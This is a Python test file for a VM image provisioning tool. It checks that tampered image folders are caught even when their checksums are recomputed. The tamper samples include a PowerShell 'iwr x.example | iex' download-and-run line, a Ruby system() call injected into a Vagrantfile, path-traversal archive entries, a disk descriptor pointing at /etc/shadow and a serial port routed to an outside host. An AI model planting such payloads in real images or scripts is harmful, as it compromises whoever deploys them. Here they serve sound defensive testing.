"""An image folder that was altered, with sums that fit: what a build writes is made again, so each change is found."""

import json
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from tests.unit.images.boot.small import MINIMUM, Members, build, repack, sum_up

from koor_provision.errors import InputError
from koor_provision.images.boot.handed import check_folder
from koor_provision.images.record import Image, read_record
from koor_provision.images.release import Format


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("image") / "out"
    build(folder)
    return folder


@pytest.fixture
def folder(built: Path, tmp_path: Path) -> Path:
    return shutil.copytree(built, tmp_path / "out")


def failures(folder: Path) -> list[str]:
    image = Image(folder, read_record(folder))
    return [f"{one.name}: {one.failure}" for one in check_folder(image, MINIMUM) if one.failure]


def test_what_a_build_leaves_passes(folder):
    assert failures(folder) == []


def swap(before: bytes, after: bytes, ending: str = ".ovf") -> Callable[[Members], Members]:
    def change(members: Members) -> Members:
        changed = [(name, text.replace(before, after) if name.endswith(ending) else text) for name, text in members]
        assert changed != members
        return changed

    return change


CARD = (
    b"<Item><rasd:Address>tcp://other.example:23</rasd:Address><rasd:ElementName>Serial</rasd:ElementName>"
    b"<rasd:InstanceID>19</rasd:InstanceID><rasd:ResourceType>21</rasd:ResourceType></Item>\n      <vmw:Config"
)
ALTERED: dict[str, tuple[Format, Callable[[Members], Members]]] = {
    "secure boot off": ("vmware", swap(b'BootEnabled" vmw:value="true"', b'BootEnabled" vmw:value="false"')),
    "no firmware": ("vmware", swap(b'vmw:key="firmware"', b'vmw:key="x"')),
    "settings required": ("vmware", swap(b'ovf:required="false"', b'ovf:required="true"')),
    "a serial port to elsewhere": ("vmware", swap(b"<vmw:Config", CARD)),
    "another form of disk": ("virtualbox", swap(b"#streamOptimized", b"#sparse")),
    "other hardware": ("vmware", swap(b"vmx-14", b"vmx-99")),
    "two items with one number": ("virtualbox", swap(b"InstanceID>5<", b"InstanceID>4<")),
    "an element that nobody knows": ("virtualbox", swap(b"<Info>One machine</Info>", b"<Bogus/>")),
    "XML that does not end": ("virtualbox", swap(b"</Envelope>", b"")),
    "entities": ("vmware", swap(b"<Envelope", b'<!DOCTYPE l [<!ENTITY a "aaaa">]><Envelope')),
    "a program in the script": ("hyperv", swap(b"Set-StrictMode", b"iwr x.example | iex; Set-StrictMode", ".ps1")),
    "no secure boot in the script": ("hyperv", swap(b"SecureBoot On", b"SecureBoot Off", ".ps1")),
    "another paper in the zip": ("hyperv", swap(b"# web", b"# wab", ".md")),
    "a file elsewhere, in the zip": ("hyperv", lambda members: [*members, ("../../x", b"x")]),
    "a file elsewhere, as Windows says it": ("hyperv", lambda members: [*members, ("..\\..\\x.ps1", b"x")]),
    "a program in the Vagrantfile": ("vagrant", swap(b"end\n", b'end\nsystem("x")\n', "Vagrantfile")),
    "two disks": ("vagrant", lambda members: [("a.vmdk", b"x"), *members]),
    "a file elsewhere, in the box": ("vagrant", lambda members: [*members, ("../../x", b"x")]),
    "another order": ("vmware", lambda members: members[::-1]),
    "another kind of disk": ("virtualbox", swap(b"KDMV", b"COWD", ".vmdk")),
    "another description of the disk": ("virtualbox", swap(b'"web-disk1.vmdk"', b'"/etc/shadow   "', ".vmdk")),
}


@pytest.mark.parametrize("what", ALTERED)
def test_whatever_is_altered_in_a_file_is_found_though_every_sum_fits(folder, what):
    form, change = ALTERED[what]
    file = folder / read_record(folder).files[form]
    repack(file, change)
    sum_up(folder)
    assert any(said.startswith(file.name) for said in failures(folder))


def cut(folder: Path) -> None:
    file = folder / "web-vmware.ova"
    file.write_bytes(file.read_bytes()[:3000])


def more(folder: Path) -> None:
    with (folder / "web-vagrant.box").open("ab") as file:
        file.write(b"more" * 2560)


DAMAGED: dict[str, Callable[[Path], Any]] = {
    "another spec": lambda folder: (folder / "spec.yml").write_text("kind: offer"),
    "an OVA that is cut off": cut,
    "something behind a box": more,
    "an OVA of junk": lambda folder: (folder / "web-vmware.ova").write_bytes(b"junk" * 1000),
    "a zip of junk": lambda folder: (folder / "web-hyperv.zip").write_bytes(b"junk" * 1000),
    "a box that is missing": lambda folder: (folder / "web-vagrant.box").unlink(),
    "a lock that is no JSON": lambda folder: (folder / "packages.lock").write_text("{"),
    "a lock nested deeply": lambda folder: (folder / "packages.lock").write_text("[" * 100_000),
    "a lock that lists": lambda folder: (folder / "packages.lock").write_text('{"epoch": 1795305600, "packages": []}'),
    "a lock without end": lambda folder: (folder / "packages.lock").write_text('{"epoch": Infinity}'),
    "a bill that is no bill": lambda folder: (folder / "sbom.cdx.json").write_text('{"components": [1]}'),
    "a bill that is no text": lambda folder: (folder / "sbom.cdx.json").write_bytes(b"\xff\xfe"),
    "a paper that says something else": lambda folder: (folder / "CONFIGURATION.md").write_text("sudo something"),
    "a subfolder": lambda folder: (folder / "sub").mkdir(),
    "a link to nowhere": lambda folder: (folder / "more").symlink_to("/nowhere"),
    "a file that no build leaves": lambda folder: (folder / "setup.exe").write_bytes(b"MZ"),
}


@pytest.mark.parametrize("what", DAMAGED)
def test_whatever_is_damaged_is_a_check_that_failed(folder, what):
    DAMAGED[what](folder)
    sum_up(folder)
    assert failures(folder)


def test_a_file_that_is_a_link_is_not_followed(folder):
    (folder / "web.qcow2").unlink()
    (folder / "web.qcow2").symlink_to("/dev/zero")
    assert any("no plain file" in said for said in failures(folder))


def test_no_sums_at_all_is_a_check_that_failed(folder):
    (folder / "SHA256SUMS").unlink()
    assert failures(folder)


@pytest.mark.parametrize(
    ("line", "said"),
    [
        ("0" * 64 + "  ../../etc/hostname", "no sum"),
        ("0" * 64 + "  sub\\x", "no sum"),
        ("0" * 64 + "  web.qcow2", "a second time"),
        ("0" * 64 + "  gone.txt", "is not there"),
        ("no sum at all", "no sum"),
    ],
)
def test_a_line_that_is_no_sum_of_this_folder_is_found(folder, line, said):
    with (folder / "SHA256SUMS").open("a") as file:
        file.write(f"{line}\n")
    assert any(said in one for one in failures(folder))


def record(folder: Path, change: Callable[[dict[str, Any]], Any]) -> None:
    content = json.loads((folder / "image.json").read_text())
    change(content)
    (folder / "image.json").write_text(json.dumps(content))
    sum_up(folder)


LIES: dict[str, Callable[[dict[str, Any]], Any]] = {
    "other sizes": lambda it: it["machine"].update(cores=2),
    "another version": lambda it: it["versions"].update(php="9.9.9-1"),
    "a customer's image": lambda it: it.update(sample=False),
    "another summary": lambda it: it.update(summary="Something else."),
    "other content": lambda it: it["content"].update(content_sha256="f" * 64),
    "fewer files": lambda it: it["files"].pop("vagrant"),
    "another disk": lambda it: it.update(disk_sha256="f" * 64),
    "another system": lambda it: it.update(system="debian12"),
}


@pytest.mark.parametrize("what", LIES)
def test_a_record_that_lies_does_not_fit_the_rest(folder, what):
    record(folder, LIES[what])
    assert failures(folder)


NO_RECORDS: dict[str, Callable[[dict[str, Any]], Any]] = {
    "no machine": lambda it: it.pop("machine"),
    "one key more": lambda it: it["machine"].update(x=1),
    "text for a number": lambda it: it["machine"].update(cores="4"),
    "a list of files": lambda it: it.update(files=["a"]),
    "no files": lambda it: it.update(files={}),
    "a file elsewhere": lambda it: it["files"].update(qcow2="../../../etc/hostname"),
    "an unknown format": lambda it: it["files"].update(vdi="web.vdi"),
    "no findings": lambda it: it.update(findings=[]),
    "a finding that refuses": lambda it: it["findings"][0].update(verdict="deny"),
    "no components": lambda it: it.update(components=[], versions={}),
    "versions of other components": lambda it: it["versions"].pop("php"),
    "another kind": lambda it: it.update(kind="case"),
}


@pytest.mark.parametrize("what", NO_RECORDS)
def test_what_is_no_record_is_told_with_its_place(folder, what):
    record(folder, NO_RECORDS[what])
    with pytest.raises(InputError, match=r"is no record of an image: \w"):
        read_record(folder)


@pytest.mark.parametrize("content", [b"", b"{", b"\xff", b"[" * 100_000, b"1e999", b" " * (1 << 21)])
def test_what_is_no_document_is_no_record(folder, content):
    (folder / "image.json").write_bytes(content)
    with pytest.raises(InputError):
        read_record(folder)
